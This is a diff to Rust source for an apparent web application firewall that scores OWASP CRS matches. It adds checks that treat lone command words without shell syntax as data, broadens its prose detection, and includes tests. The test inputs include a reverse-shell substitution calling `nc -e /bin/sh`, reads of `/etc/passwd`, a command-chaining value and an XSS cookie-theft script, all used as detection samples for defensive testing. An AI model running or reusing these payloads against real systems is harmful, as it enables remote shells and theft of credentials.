@@ -14,6 +14,10 @@
 //! 932250, for one, match the same command word together.) A match in a value that does not read as prose (a short parameter, a payload, a header
 //! CRS inspects whole) counts as CRS scores it.
 //!
+//! The same holds for an RCE match in a lone word without any shell syntax
+//! ([`lacks_syntax`]): a dependency named `base64` or a user called `nc` is not a command
+//! injection unless something else says so.
+//!
 //! Unconfirmed matches are still reported (score 0, tagged `unconfirmed`), so an operator
 //! sees them in `waf_detected`. Protocol, scanner and other non-family rules count as CRS
 //! scores them. `[waf.crs] confirm = false` restores CRS's own behaviour.
@@ -53,8 +57,56 @@ fn native_tags(family: &str) -> &'static [&'static str] {
 /// Detector rules whose single match is evidence enough.
 const DETECTORS: [u32; 2] = [941100, 942100];
 
-/// Text that reads as sentences: at least 8 words, three quarters of them plain words
-/// (letters, with at most one trailing punctuation mark), at least 40 bytes.
+/// Whether a value a CRS rule of `family` matched in cannot carry that family's attack as
+/// CRS read it: it reads as prose ([`is_prose`]), or it lacks the family's syntax
+/// altogether ([`lacks_syntax`]).
+pub fn harmless_shape(family: &str, v: &[u8]) -> bool {
+    is_prose(v) || lacks_syntax(family, v)
+}
+
+/// A value with none of the characters an attack of `family` needs: a command injection
+/// chains, substitutes or spells a command (separators, `$`, backquote, brackets, globs,
+/// quotes, redirections, absolute paths, `%var%`, whitespace between a command and its arguments);
+/// a lone word without any of them (a package named `base64`, a user called `nc`) is data,
+/// not a command. Other families: false.
+pub fn lacks_syntax(family: &str, v: &[u8]) -> bool {
+    match family {
+        // An absolute or home path names a program to run; `crate/feature` does not.
+        "rce" if matches!(v.first(), Some(b'/' | b'~' | b'.')) => false,
+        "rce" => !v.iter().any(|b| {
+            b.is_ascii_whitespace()
+                || b.is_ascii_control()
+                || matches!(
+                    b,
+                    b';' | b'|'
+                        | b'&'
+                        | b'$'
+                        | b'`'
+                        | b'('
+                        | b')'
+                        | b'{'
+                        | b'}'
+                        | b'['
+                        | b']'
+                        | b'<'
+                        | b'>'
+                        | b'*'
+                        | b'?'
+                        | b'%'
+                        | b'\\'
+                        | b'\''
+                        | b'"'
+                        | b','
+                        | b'='
+                )
+        }),
+        _ => false,
+    }
+}
+
+/// Text that reads as sentences: at least 40 bytes and either at least 8 words, three
+/// quarters of them plain words (letters, with at most one trailing punctuation mark), or
+/// — documentation that mixes prose with code — at least 20 words, half of them plain.
 pub fn is_prose(v: &[u8]) -> bool {
     if v.len() < 40 {
         return false;
@@ -78,15 +130,16 @@ pub fn is_prose(v: &[u8]) -> bool {
             plain += 1;
         }
     }
-    words >= 8 && plain * 4 >= words * 3
+    (words >= 8 && plain * 4 >= words * 3) || (words >= 20 && plain * 2 >= words)
 }
 
 /// The families among `crs` (CRS matches) that are not confirmed, given the native
-/// matches; `in_prose(m)` says whether a CRS match was in a value that reads as prose.
+/// matches; `harmless(m, family)` says whether a CRS match was in a value of a
+/// [`harmless_shape`] for its family.
 pub fn unconfirmed(
     crs: &[Match],
     native: &[Match],
-    in_prose: impl Fn(&Match) -> bool,
+    harmless: impl Fn(&Match, &str) -> bool,
 ) -> Vec<&'static str> {
     let mut fams: Vec<&'static str> = crs.iter().filter_map(|m| family(m.rule)).collect();
     fams.sort_unstable();
@@ -98,11 +151,11 @@ pub fn unconfirmed(
         let native = native
             .iter()
             .any(|m| m.tags.iter().any(|t| native_tags(f).contains(&t.as_str())));
-        let all_prose = crs
+        let all_harmless = crs
             .iter()
             .filter(|m| family(m.rule) == Some(*f))
-            .all(&in_prose);
-        all_prose && !(detector || native)
+            .all(|m| harmless(m, f));
+        all_harmless && !(detector || native)
     });
     fams
 }
@@ -128,9 +181,9 @@ mod tests {
 
     #[test]
     fn one_regex_alone_in_prose_is_unconfirmed() {
-        let prose = |_: &Match| true;
+        let prose = |_: &Match, _: &str| true;
         assert_eq!(unconfirmed(&[m(932235, &[])], &[], prose), ["rce"]);
-        assert!(unconfirmed(&[m(932235, &[])], &[], |_: &Match| false).is_empty());
+        assert!(unconfirmed(&[m(932235, &[])], &[], |_: &Match, _: &str| false).is_empty());
         assert_eq!(
             unconfirmed(&[m(932230, &[]), m(932250, &[])], &[], prose),
             ["rce"]
@@ -157,5 +210,22 @@ mod tests {
             b"<script>alert(document.cookie)</script> and some more words here ok"
         ));
         assert!(!is_prose(b"cat /etc/passwd"));
+        // Documentation mixing sentences and code.
+        assert!(is_prose(b"Inserts a value into the map. If the map did not have this key present, `None` is returned; if it did, the value is updated and the old value is returned: `map.insert(37, \"a\")` returns `None`."));
+    }
+
+    #[test]
+    fn a_command_word_without_shell_syntax_is_data() {
+        assert!(lacks_syntax("rce", b"base64"));
+        assert!(lacks_syntax("rce", b"python3"));
+        assert!(!lacks_syntax("rce", b"python3 -m http.server"));
+        assert!(!lacks_syntax("rce", b"/etc/pas[s]wd"));
+        assert!(!lacks_syntax("rce", b"/usr/bin/id"));
+        assert!(lacks_syntax("rce", b"zstd-sys/zstdmt"));
+        assert!(!lacks_syntax("rce", b"x; base64 -d"));
+        assert!(!lacks_syntax("rce", b"$(nc -e /bin/sh 10.0.0.1 4444)"));
+        assert!(!lacks_syntax("rce", b"a\nid"));
+        assert!(!lacks_syntax("sqli", b"base64"));
+        assert!(harmless_shape("rce", b"nc"));
     }
 }
